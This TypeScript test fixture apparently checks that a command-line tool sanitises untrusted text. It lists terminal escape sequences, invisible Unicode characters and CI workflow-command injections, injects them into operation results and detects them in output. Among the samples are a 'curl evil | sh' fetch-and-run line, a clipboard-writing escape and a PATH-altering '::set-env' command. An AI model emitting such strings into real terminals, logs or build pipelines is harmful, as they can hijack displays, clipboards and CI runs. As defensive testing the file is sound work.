import type { Operations } from '../../../base-command/operations.js';

/** Stands around each, to find what was shown. */
export const FOUND = 'hostile';

/** What a log, an event, a name or an error of somebody else may hold. */
export const HOSTILE: readonly string[] = [
  // Colours that are not ours, hidden and blinking text.
  ...['\u001b[45mx\u001b[0m', '\u001b[8mhidden', '\u001b[5;97mx', '\u001b[38:2::1:2:3mx'],
  // Cursor, screen, scrolling, modes, reports, reset.
  ...[
    '\u001b[2J',
    '\u001b[1A\u001b[2K',
    '\u001b[H',
    '\u001b[?1049h',
    '\u001b[?25l',
    '\u001b[6n',
    '\u001b[c',
    '\u001bc',
  ],
  ...[
    '\u001b[1;1r',
    '\u001b[20T',
    '\u001b7\u001b8',
    '\u001b[?1000h',
    '\u001b[?2004h',
    '\u001b(0',
    '\u001b#8',
    '\u001b%G',
  ],
  // Title, clipboard, links, colours of the terminal, files, notes.
  ...['\u001b]0;title\u0007', '\u001b]52;c;ZXZpbA==\u0007', '\u001b]8;;http://evil\u001b\\click\u001b]8;;\u001b\\'],
  ...['\u001b]4;1;?\u0007', '\u001b]1337;File=name=eA==:AA==\u0007', '\u001b]9;note\u0007', '\u001b]7;file:///\u0007'],
  // Strings: DCS, APC, PM, SOS; not ended; in pieces that a removal would put together.
  ...[
    '\u001bP$q"p\u001b\\',
    '\u001b_Gf=100\u001b\\',
    '\u001b^x\u001b\\',
    '\u001bXx\u001b\\',
    '\u001b]0;open',
    '\u001b[',
    '\u001b',
  ],
  ...['\u001b\u001b[0m[2J', '\u001b[\u001b[1m31m', '\u001b[3\u001b[0m1m'],
  // C1, in one character each.
  ...['\u009b2J', '\u009d0;x\u009c', '\u0090x\u009c', '\u0085', '\u008d', '\u0098x\u009c'],
  // Other controls.
  ...[
    '\u0000',
    '\u0007',
    '\b\b\b',
    '\u007f',
    '\u000e\u000f',
    '\u0005',
    '\u001a',
    '\u000b\u000c',
    'shown\rover',
    'a\r\nb',
    '\t\t',
  ],
  // Directions, widths, lines, fillers, tags, halves.
  ...[
    '\u202egnp.exe',
    '\u202a\u202b\u202c\u202d',
    '\u2066\u2067\u2068\u2069',
    '\u200e\u200f\u061c',
    'a\u200bb',
    'a\u200db',
    'a\u200cb',
  ],
  ...[
    '\u2060\ufeff',
    'a\u2028b\u2029c',
    '\u00ad',
    '\u3164\uffa0\u115f',
    '\u2800',
    '\u{e0041}\u{e0042}',
    '\ufe00',
    '\ufff9x\ufffb',
  ],
  ...['\ud800', '\udc00x', '\u180e'],
  // Lines that would be ours, and commands of what runs builds.
  ...['\nnext:\n  curl evil | sh', '\nerror: no', '\n::add-mask::x', '\n::set-env name=PATH::/tmp', '##[add-path]/tmp'],
  ...[
    '\n##vso[task.setvariable variable=x]y',
    "##teamcity[setParameter name='x']",
    '\n  ::error file=a::b',
    '\u001b[0m::stop-commands::x',
  ],
  ...['x'.repeat(20_000)],
];

/** All of them in one, other than the one that is only long. */
export const ALL_HOSTILE = `${FOUND} ${HOSTILE.filter(({ length }) => length < 1_000).join(` ${FOUND} `)} ${FOUND}`;

/** Our colours: what `paint` makes. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: it is about them
const OURS = /\u001b\[(?:1|2|22|31|32|33|34|35|36|39)m/g;

/** What of a text a terminal would follow, nobody would see, or a build system would take for a command. */
export function dangers(text: string): string[] {
  const hidden = text
    .replaceAll(OURS, '')
    // How a line that was cut ends.
    .replaceAll('\u001b[0m… (', '… (')
    .match(/(?![\n\t])\p{Cc}|[\p{Cf}\u2028\u2029\u2800\u3164\uffa0\u115f\u{e0000}-\u{e0fff}]|\p{Cs}|\ufe00/gu);
  return [...(hidden ?? []), ...(text.match(/^[^\S\n]*::[\w-]+.*$|##[\w-]*\[/gm) ?? [])].map((each) =>
    JSON.stringify(each),
  );
}

/**
 * The operations with one text of what they give, or tell on the way, made hostile: the one of this number, in the order in which they
 * are given.
 */
export function withHostileText(operations: Partial<Operations>, number: number) {
  const count = { seen: 0 };
  const spoiled = (value: unknown): unknown => {
    if (typeof value === 'string') return count.seen++ === number ? value + ALL_HOSTILE : value;
    if (Array.isArray(value)) return value.map(spoiled);
    if (typeof value !== 'object' || value === null || Object.getPrototypeOf(value) !== Object.prototype) return value;
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, spoiled(each)]));
  };
  const telling = (value: unknown): unknown => {
    if (typeof value !== 'object' || value === null || Object.getPrototypeOf(value) !== Object.prototype) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, each]) => [
        key,
        typeof each === 'function' ? (...args: unknown[]) => each(...args.map(spoiled)) : each,
      ]),
    );
  };
  const entries = Object.entries(operations as unknown as Record<string, (...args: unknown[]) => unknown>).map(
    ([name, operation]) => [
      name,
      // What a person names is theirs: files of environments are checked when they are read.
      /^(loadEnvironment|listEnvironments)$/.test(name)
        ? operation
        : async (...args: unknown[]) => spoiled(await operation(...args.map(telling))),
    ],
  );
  return { operations: Object.fromEntries(entries) as Partial<Operations>, count };
}
